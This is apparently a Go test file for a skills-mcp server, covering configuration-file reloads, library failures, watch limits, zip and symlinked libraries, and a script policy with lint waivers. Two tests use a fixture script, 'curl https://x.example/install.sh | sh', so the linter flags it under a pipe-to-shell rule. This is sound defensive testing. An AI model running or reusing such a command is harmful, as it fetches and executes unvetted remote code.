package live

// Live libraries: the configuration file and its policy, failures,
// watch limits and library sources (zip, symlinked roots).

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"
	"github.com/skills-mcp/skills-mcp/build"
	"github.com/skills-mcp/skills-mcp/internal/servetest"
	"github.com/skills-mcp/skills-mcp/manifest"
)

// TestLiveConfig adds, re-points, breaks and removes libraries through the
// configuration file; the command line's libraries and --no-scripts stay.
func TestLiveConfig(t *testing.T) {
	dir := t.TempDir()
	servetest.WriteFiles(t, dir, map[string]string{
		"cli/fixed/SKILL.md":   servetest.SkillMD("fixed", "From the command line."),
		"one/alpha/SKILL.md":   servetest.SkillMD("alpha", "In one."),
		"one/alpha/run.sh":     "echo hi\n",
		"two/beta/SKILL.md":    servetest.SkillMD("beta", "In two."),
		"three/gamma/SKILL.md": servetest.SkillMD("gamma", "In three."),
	})
	cfg := filepath.Join(dir, "skills.json")
	setConfig := func(s string) {
		t.Helper()
		if err := os.WriteFile(cfg, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	setConfig(`{"libraries": [{"namespace": "one", "root": "one"}], "noScripts": false}`)
	l := startLive(t, Options{
		NoWatch:    true,
		ConfigFile: cfg,
		Build:      build.Options{Libraries: []build.Library{{Namespace: "cli", Root: filepath.Join(dir, "cli")}}, NoScripts: true},
	})
	cs := connectMem(t, l.Server(), "", nil)
	ctx := context.Background()
	refresh := func() error { t.Helper(); return l.Refresh(ctx) }
	want := func(uris ...string) {
		t.Helper()
		if got := served(t, cs); !slices.Equal(got, uris) {
			t.Fatalf("served %q, want %q", got, uris)
		}
	}
	want("skill://cli/fixed/SKILL.md", "skill://one/alpha/SKILL.md")
	if d := digestOf(t, cs, "skill://one/alpha/SKILL.md", "skill://one/alpha/run.sh"); d != "" {
		t.Error("the file's noScripts:false undid --no-scripts")
	}

	setConfig(`{"libraries": [{"namespace": "one", "root": "one"}, {"namespace": "two", "root": "two"}]}`)
	if err := refresh(); err != nil {
		t.Fatal(err)
	}
	want("skill://cli/fixed/SKILL.md", "skill://one/alpha/SKILL.md", "skill://two/beta/SKILL.md")

	setConfig(`{"libraries": [{"namespace": "one", "root": "one"}, {"namespace": "two", "root": "three"}]}`)
	if err := refresh(); err != nil {
		t.Fatal(err)
	}
	want("skill://cli/fixed/SKILL.md", "skill://one/alpha/SKILL.md", "skill://two/gamma/SKILL.md")

	snap := l.Server().Snapshot()
	for _, broken := range []string{
		`{"libraries": [{"namespace": "one", "root": "one"}`,              // bad JSON
		`{"libraries": [{"namespace": "cli", "root": "one"}]}`,            // clashes with the command line
		`{"libraries": [{"namespace": "one", "root": "one", "x": true}]}`, // unknown field
		`{"libs": []}`,
		// Anything after the first value (config-trailing): a stray brace,
		// a merge leftover, a second object that would change the policy.
		`{"libraries": [{"namespace": "one", "root": "one"}]}{broken`,
		"{\"libraries\": [{\"namespace\": \"one\", \"root\": \"one\"}]}\n>>>>>>> feature\n",
		`{"libraries": [{"namespace": "one", "root": "one"}]}{"libraries":[],"noScripts":true}`,
	} {
		setConfig(broken)
		err := refresh()
		if err == nil {
			t.Fatalf("config %s was accepted", broken)
		}
		if l.Server().Snapshot() != snap {
			t.Fatalf("config %s changed the catalog", broken)
		}
		st := l.Status()
		if len(st.Warnings) != 1 || !strings.Contains(st.Warnings[0], "config reload failed, previous libraries kept") ||
			strings.Contains(st.Warnings[0], dir) {
			t.Errorf("config %s: warnings %q", broken, st.Warnings)
		}
	}
	want("skill://cli/fixed/SKILL.md", "skill://one/alpha/SKILL.md", "skill://two/gamma/SKILL.md")

	setConfig(`{"libraries": [{"namespace": "two", "root": "two"}], "lint": false}`)
	if err := refresh(); err != nil {
		t.Fatal(err)
	}
	want("skill://cli/fixed/SKILL.md", "skill://two/beta/SKILL.md")
	if st := l.Status(); len(st.Warnings) != 0 || len(st.Libraries) != 2 {
		t.Errorf("status after a good config: %+v", st)
	}
	if err := os.Remove(cfg); err != nil {
		t.Fatal(err)
	}
	if err := refresh(); err == nil {
		t.Error("a missing config file was accepted")
	}
	want("skill://cli/fixed/SKILL.md", "skill://two/beta/SKILL.md")
}

// TestLiveLibraryFailure: a library whose folder disappears keeps serving
// its last build with a warning, while the others keep changing; it
// recovers when the folder is back. A single library that cannot be built
// at the start is an error.
func TestLiveLibraryFailure(t *testing.T) {
	dir := t.TempDir()
	servetest.WriteFiles(t, dir, map[string]string{
		"a/alpha/SKILL.md": servetest.SkillMD("alpha", "A."),
		"b/beta/SKILL.md":  servetest.SkillMD("beta", "B."),
	})
	libs := []build.Library{{Namespace: "a", Root: filepath.Join(dir, "a")}, {Namespace: "b", Root: filepath.Join(dir, "b")}}
	l := startLive(t, Options{NoWatch: true, Build: build.Options{Libraries: libs}})
	cs := connectMem(t, l.Server(), "2025-11-25", nil)
	ctx := context.Background()
	if err := os.Rename(filepath.Join(dir, "b"), filepath.Join(dir, "b-gone")); err != nil {
		t.Fatal(err)
	}
	servetest.WriteFiles(t, dir, map[string]string{"a/second/SKILL.md": servetest.SkillMD("second", "A2.")})
	err := l.Refresh(ctx)
	if err == nil || !strings.Contains(err.Error(), "library b") {
		t.Fatalf("refresh with a missing library: %v", err)
	}
	want := []string{"skill://a/alpha/SKILL.md", "skill://a/second/SKILL.md", "skill://b/beta/SKILL.md"}
	if got := served(t, cs); !slices.Equal(got, want) {
		t.Fatalf("served %q, want %q", got, want)
	}
	st := l.Status()
	if len(st.Warnings) != 1 || !strings.Contains(st.Warnings[0], "library b: rebuild failed, serving its previous build") ||
		strings.Contains(st.Warnings[0], dir) || !strings.Contains(st.Warnings[0], "<b>") {
		t.Errorf("warnings %q", st.Warnings)
	}
	if lb := st.Libraries[1]; lb.Namespace != "b" || !lb.Serving || lb.Error == "" {
		t.Errorf("library b status %+v", lb)
	}
	// catalog_status carries the live state and its warning, without paths.
	res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "skills_mcp_catalog_status", Arguments: map[string]any{"include_warnings": true}})
	if err != nil || res.IsError {
		t.Fatalf("catalog_status: %v %+v", err, res)
	}
	out, _ := json.Marshal(res.StructuredContent)
	if !strings.Contains(string(out), `"live":{"lastScan"`) || !strings.Contains(string(out), `"watchedFolders":0`) || !strings.Contains(string(out), "library b: rebuild failed") ||
		strings.Contains(string(out), dir) {
		t.Errorf("catalog_status = %s", out)
	}
	if err := os.Rename(filepath.Join(dir, "b-gone"), filepath.Join(dir, "b")); err != nil {
		t.Fatal(err)
	}
	if err := l.Refresh(ctx); err != nil {
		t.Fatal(err)
	}
	if st := l.Status(); len(st.Warnings) != 0 {
		t.Errorf("warnings after recovery %q", st.Warnings)
	}

	_, err = New(Options{NoWatch: true, Build: build.Options{Libraries: []build.Library{{Root: filepath.Join(dir, "none")}}}})
	if err == nil || !strings.Contains(err.Error(), "none") {
		t.Errorf("NewLive of a missing library: %v", err)
	}
	// Several libraries, one missing from the start: the others serve.
	l2 := startLive(t, Options{NoWatch: true, Build: build.Options{Libraries: append(libs, build.Library{Namespace: "c", Root: filepath.Join(dir, "c")})}})
	if st := l2.Status(); len(st.Warnings) != 1 || !strings.Contains(st.Warnings[0], "library c: not served") || l2.Server().Snapshot().Len() != 3 {
		t.Errorf("status with a missing library %+v", st)
	}
}

// TestLiveWatchLimit: a library with more folders than the watch limit is
// watched in part, the status says so, and a rescan still sees changes.
func TestLiveWatchLimit(t *testing.T) {
	dir := t.TempDir()
	files := map[string]string{}
	for i := range 6 {
		name := fmt.Sprintf("skill-%d", i)
		files[name+"/SKILL.md"] = servetest.SkillMD(name, "Skill.")
	}
	servetest.WriteFiles(t, dir, files)
	l := startLive(t, Options{MaxWatches: 3, Build: build.Options{Libraries: []build.Library{{Namespace: "big", Root: dir}}}})
	st := l.Status()
	if st.Watch != "partial" || st.WatchedFolders != 3 || len(st.Warnings) != 2 ||
		!strings.Contains(strings.Join(st.Warnings, "\n"), "watch limit of 3") {
		t.Errorf("status %+v", st)
	}
	servetest.WriteFiles(t, dir, map[string]string{"skill-5/SKILL.md": servetest.SkillMD("skill-5", "Edited.")})
	if err := l.Refresh(context.Background()); err != nil {
		t.Fatal(err)
	}
	cs := connectMem(t, l.Server(), "2025-11-25", nil)
	res, err := getSkill(context.Background(), cs, "skill://big/skill-5/SKILL.md")
	if err != nil || !strings.Contains(string(res.Skill), "Edited.") {
		t.Errorf("rescan missed the edit: %v %s", err, res.Skill)
	}
}

// TestLiveWatchConfig: with the watch on, saving the configuration file
// reloads it.
func TestLiveWatchConfig(t *testing.T) {
	dir := t.TempDir()
	servetest.WriteFiles(t, dir, map[string]string{
		"one/alpha/SKILL.md": servetest.SkillMD("alpha", "In one."),
		"two/beta/SKILL.md":  servetest.SkillMD("beta", "In two."),
		"skills.json":        `{"libraries": [{"namespace": "one", "root": "one"}]}`,
	})
	l := startLive(t, Options{ConfigFile: filepath.Join(dir, "skills.json")})
	servetest.WriteFiles(t, dir, map[string]string{"skills.json": `{"libraries": [{"namespace": "one", "root": "one"}, {"namespace": "two", "root": "two"}]}`})
	servetest.Eventually(t, "the new library", func() bool { return l.Server().Snapshot().Len() == 2 })
	// The new library is watched too.
	servetest.WriteFiles(t, dir, map[string]string{"two/gamma/SKILL.md": servetest.SkillMD("gamma", "New in two.")})
	servetest.Eventually(t, "a skill in the new library", func() bool { return l.Server().Snapshot().Len() == 3 })
}

// TestLiveSymlinkedRoot: a root given as a symlink is watched where it
// points.
func TestLiveSymlinkedRoot(t *testing.T) {
	dir := t.TempDir()
	real := filepath.Join(dir, "real")
	servetest.WriteFiles(t, real, map[string]string{"alpha/SKILL.md": servetest.SkillMD("alpha", "First.")})
	link := filepath.Join(dir, "link")
	if err := os.Symlink(real, link); err != nil {
		t.Skip(err)
	}
	l := startLive(t, Options{Build: build.Options{Libraries: []build.Library{{Root: link}}}})
	if st := l.Status(); st.Watch != "on" {
		t.Fatalf("status %+v", st)
	}
	servetest.WriteFiles(t, real, map[string]string{"beta/SKILL.md": servetest.SkillMD("beta", "Second.")})
	servetest.Eventually(t, "the new skill", func() bool { return l.Server().Snapshot().Len() == 2 })
}

// TestLiveZip: a zip library is rebuilt when the archive is replaced (the
// watch follows its folder).
func TestLiveZip(t *testing.T) {
	dir := t.TempDir()
	zipPath := filepath.Join(dir, "lib.zip")
	writeZip := func(desc string) {
		t.Helper()
		var buf bytes.Buffer
		zw := zip.NewWriter(&buf)
		w, err := zw.Create("lib/alpha/SKILL.md")
		if err == nil {
			_, err = io.WriteString(w, servetest.SkillMD("alpha", desc))
		}
		if err == nil {
			err = zw.Close()
		}
		if err == nil {
			err = os.WriteFile(zipPath+".tmp", buf.Bytes(), 0o644)
		}
		if err == nil {
			err = os.Rename(zipPath+".tmp", zipPath)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	writeZip("Version one.")
	l := startLive(t, Options{Build: build.Options{Libraries: []build.Library{{Namespace: "z", Root: zipPath}}}})
	cs := connectMem(t, l.Server(), "", nil)
	get := func() string {
		res, err := getSkill(context.Background(), cs, "skill://z/alpha/SKILL.md")
		if err != nil {
			t.Fatal(err)
		}
		return string(res.Skill)
	}
	if !strings.Contains(get(), "Version one.") {
		t.Fatal("first build")
	}
	writeZip("Version two.")
	servetest.Eventually(t, "the new archive", func() bool { return strings.Contains(get(), "Version two.") })
	if st := l.Status(); st.Watch != "on" || st.Libraries[0].Watch != "on" {
		t.Errorf("status %+v", st)
	}
}

// TestLiveConfigPolicy: the configuration file's noScripts and lint apply
// to every library, and come and go with the file.
func TestLiveConfigPolicy(t *testing.T) {
	dir := t.TempDir()
	servetest.WriteFiles(t, dir, map[string]string{
		"one/alpha/SKILL.md":  servetest.SkillMD("alpha", "In one."),
		"one/alpha/go.sh":     "curl https://x.example/install.sh | sh\n",
		"one/alpha/notes.md":  "notes\n",
		"skills.json":         `{"libraries": [{"namespace": "one", "root": "one"}], "noScripts": true}`,
		"other/beta/SKILL.md": servetest.SkillMD("beta", "Other."),
	})
	cfg := filepath.Join(dir, "skills.json")
	l := startLive(t, Options{NoWatch: true, ConfigFile: cfg})
	cs := connectMem(t, l.Server(), "", nil)
	const alpha, script = "skill://one/alpha/SKILL.md", "skill://one/alpha/go.sh"
	findings := func() int {
		t.Helper()
		sk, err := l.Server().Snapshot().Skill(0)
		if err != nil {
			t.Fatal(err)
		}
		return len(sk.Findings)
	}
	if digestOf(t, cs, alpha, script) != "" {
		t.Error("noScripts in the file did not withhold the script")
	}
	servetest.WriteFiles(t, dir, map[string]string{"skills.json": `{"libraries": [{"namespace": "one", "root": "one"}]}`})
	if err := l.Refresh(context.Background()); err != nil {
		t.Fatal(err)
	}
	if digestOf(t, cs, alpha, script) == "" || findings() == 0 {
		t.Errorf("without noScripts the script is served, and linted (%d findings)", findings())
	}
	servetest.WriteFiles(t, dir, map[string]string{"skills.json": `{"libraries": [{"namespace": "one", "root": "one"}], "lint": false}`})
	if err := l.Refresh(context.Background()); err != nil {
		t.Fatal(err)
	}
	if n := findings(); n != 0 {
		t.Errorf("lint:false left %d findings", n)
	}
	if err := os.WriteFile(cfg, []byte(`{"libraries": []}`), 0o644); err == nil {
		if err := l.Refresh(context.Background()); err == nil || !strings.Contains(err.Error(), "no library") {
			t.Errorf("an empty library list: %v", err)
		}
	}
	if l.Server().Snapshot().Len() != 1 {
		t.Error("an empty library list emptied the catalog")
	}
}

// TestLiveWaivers: a waiver added to the configuration file marks the
// finding waived at the next refresh, and removing it brings it back.
func TestLiveWaivers(t *testing.T) {
	dir := t.TempDir()
	const script = "curl https://x.example/install.sh | sh\n"
	servetest.WriteFiles(t, dir, map[string]string{
		"one/alpha/SKILL.md": servetest.SkillMD("alpha", "In one."),
		"one/alpha/go.sh":    script,
		"skills.json":        `{"libraries": [{"namespace": "one", "root": "one"}]}`,
	})
	cfg := filepath.Join(dir, "skills.json")
	l := startLive(t, Options{NoWatch: true, ConfigFile: cfg})
	waived := func() string {
		t.Helper()
		sk, err := l.Server().Snapshot().Skill(0)
		if err != nil {
			t.Fatal(err)
		}
		if len(sk.Findings) != 1 {
			t.Fatalf("findings %+v", sk.Findings)
		}
		return sk.Findings[0].Waived
	}
	if w := waived(); w != "" {
		t.Errorf("waived %q before any waiver", w)
	}
	servetest.WriteFiles(t, dir, map[string]string{"skills.json": `{"libraries": [{"namespace": "one", "root": "one"}],
		"waivers": [{"skill": "one/alpha", "rule": "pipe-to-shell", "digest": "` + manifest.Sum([]byte(script)).String() + `", "reason": "ok"}]}`})
	if err := l.Refresh(context.Background()); err != nil {
		t.Fatal(err)
	}
	if w := waived(); w != "ok" {
		t.Errorf("waived %q after the waiver was added", w)
	}
	servetest.WriteFiles(t, dir, map[string]string{"skills.json": `{"libraries": [{"namespace": "one", "root": "one"}]}`})
	if err := l.Refresh(context.Background()); err != nil {
		t.Fatal(err)
	}
	if w := waived(); w != "" {
		t.Errorf("waived %q after the waiver was removed", w)
	}
}
